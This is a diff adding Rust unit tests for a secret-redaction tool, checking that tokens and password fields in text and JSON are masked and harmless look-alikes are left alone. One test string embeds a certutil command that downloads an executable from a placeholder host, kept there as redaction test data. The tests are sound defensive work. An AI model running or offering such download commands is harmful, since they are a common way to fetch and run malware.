@@ -53,6 +53,22 @@ fn a_users_pattern_masks_its_group() {
 }
 
 #[test]
+fn tokens_of_more_vendors_are_known() {
+    let hex = "0a1b2c3d4e".repeat(11);
+    for (token, kept) in [
+        (format!("pul-{}", &hex[..40]), "pul-request"),
+        (format!("AQVN{}", &hex[..35]), "AQVNtest"),
+        (format!("v1.0-{}-{hex}", &hex[..24]), "v1.0-20260512-abcdef"),
+        (format!("SAMLResponse={hex}"), "SAMLResponse validation failed"),
+        (format!("4/0{hex}"), "4/0 and more"),
+    ] {
+        let masked = redactor().redact_text(&format!("with {token} and {kept}"));
+        assert!(!masked.contains(&hex[..12]), "{masked}");
+        assert!(masked.ends_with(&format!("and {kept}")), "{masked}");
+    }
+}
+
+#[test]
 fn text_without_a_secret_comes_back_as_it_was() {
     let text = "tab\there \u{200b}and\r\nbreaks";
     assert_eq!(redactor().redact_text(text), text);
@@ -116,6 +132,70 @@ fn a_command_given_word_by_word_is_masked_whatever_its_words_hold() {
             assert_eq!(value, once);
         }
     }
+}
+
+#[test]
+fn a_name_of_several_secrets_hides_each_string_below_it() {
+    for secrets in [
+        serde_json::json!({"tokens": ["Dingo88xY", "Dingo88xZ"]}),
+        serde_json::json!({"secrets": {"a": "Dingo88", "b": {"c": ["Dingo88"]}}}),
+        serde_json::json!({"secrets": {"a": "geheim Dingo88"}}),
+        serde_json::json!({"api_keys": {"prod": "Dingo88xY"}}),
+        serde_json::json!({"credentials": {"user": "bob99", "x": "Dingo88xY"}}),
+        serde_json::json!({"passwords": ["geheim", "Dingo88"]}),
+    ] {
+        let text = secrets.to_string();
+        let inner = serde_json::json!({ "log": text }).to_string();
+        for text in [&text, &inner, &text.replace('"', "'")] {
+            let masked = redactor().redact_text(text);
+            assert!(!masked.contains("Dingo88") && !masked.contains("geheim"), "{masked}");
+            assert!(!masked.contains("bob") || masked.contains("bob99"), "{masked}");
+            assert_eq!(redactor().redact_text(&masked), masked);
+        }
+        for neighbours in [false, true] {
+            let mut value = secrets.clone();
+            if neighbours && value.get("passwords").is_none() {
+                redactor().redact_neighbours(&mut value);
+            } else {
+                redactor().redact_json(&mut value);
+            }
+            assert!(!value.to_string().contains("Dingo88"), "{value}");
+        }
+    }
+    for honest in [
+        serde_json::json!({"tokens": 512, "usage": {"tokens": {"input": 12, "cached": false}}}),
+        serde_json::json!({"tokens": ["the", "quick", "fox"]}),
+        serde_json::json!({"secrets": ["db-password", "api-key"]}),
+        serde_json::json!({"secrets": [{"name": "db99", "valueFrom": "arn:aws:secretsmanager:eu-west-1:1:secret:x-Ab3"}]}),
+        serde_json::json!({"credentials": {"accessKeyId": "ASIAIOSFODNN7EXAMPLE", "expiration": "2026-11-29T17:00:00Z"}}),
+        serde_json::json!({"resources": ["secrets", "pods9"], "verbs": ["get"]}),
+        serde_json::json!({"max_tokens": ["Dingo88xY"], "keys": ["Dingo88xY"]}),
+    ] {
+        let text = honest.to_string();
+        assert_eq!(redactor().redact_text(&text), text);
+        let mut value = honest.clone();
+        assert_eq!(redactor().redact_json(&mut value), 0, "{value}");
+    }
+}
+
+#[test]
+fn a_quoted_value_is_hidden_up_to_its_end_however_long_it_is() {
+    let long = "Dingo 88xY ".repeat(2000);
+    for text in [
+        format!("password=\"{long}\" next"),
+        format!("{{\"password\":\"{long}\",\"next\":1}}"),
+        format!("{{\\\"password\\\":\\\"{long}\\\",\\\"next\\\":1}}"),
+        format!("{} password='{long}' next", "word ".repeat(1500)),
+    ] {
+        let masked = redactor().redact_text(&text);
+        assert!(!masked.contains("Dingo") && !masked.contains("88xY"), "{masked:.200}");
+        assert!(masked.contains("next"), "{masked:.200}");
+    }
+    let text = format!(
+        "password=\"{} & certutil -f http://h/p.exe\"",
+        "Dingo 88xY ".repeat(900)
+    );
+    assert!(redactor().redact_text(&text).contains("certutil"));
 }
 
 #[test]
